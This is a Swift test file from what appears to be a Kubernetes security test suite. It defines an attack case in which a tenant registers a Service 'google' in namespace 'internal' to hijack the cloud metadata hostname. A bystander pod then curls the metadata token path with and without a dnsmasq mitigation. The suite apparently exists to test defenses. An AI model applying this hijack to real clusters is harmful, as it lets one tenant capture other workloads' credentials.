import Foundation

/// N1: the metadata server's name, claimed by a tenant. A pod's search list tries it below `svc.cluster.local` first, where a
/// Service `google` in a namespace `internal` answers.
extension AttackSuite {
    var names: [Attack] {
        [
            Attack(
                "N1", .tenant, "a Service google in a namespace internal, for a pod that asks dnsmasq", .ownIdentity,
                own: stage.bystander,
                control: { Loot(try await askByName(with: .none), world: world).owners == [Loot.machine] },
                run: { try await askByName(with: .dnsmasq) }
            )
        ]
    }

    /// The answer that a bystander gets by the server's name, with an option of `deploy/dns` or without any, beside the
    /// tenant's Service.
    private func askByName(with resolution: NameResolution) async throws -> String {
        let repository = try ClientPrograms.repository(above: world.binaries)
        let tenant = try await TenantService.start(on: world.node)
        do {
            let nameServer = try await PodNameServer.start(
                resolution, network: world.node.network, directory: world.node.directory,
                deploy: ClientPrograms.nameOptions(in: repository), claimed: TenantService.address
            )
            let output = try await ask(with: resolution)
            await nameServer.stop()
            await tenant.stop()
            return output
        } catch {
            await tenant.stop()
            throw error
        }
    }

    private func ask(with resolution: NameResolution) async throws -> String {
        let directory = "\(world.node.directory)/names"
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let files = try ClientLab.write(resolution.files(namespace: "victim"), to: directory)
        let url = "http://\(NameResolution.metadataName)\(Self.tokenPath)"
        let command = ["curl", "-s", "--max-time", "10", "-H", "Metadata-Flavor: Google", url]
        return try await Command.run(stage.bystander.commandLine(command, files: files)).output
    }
}
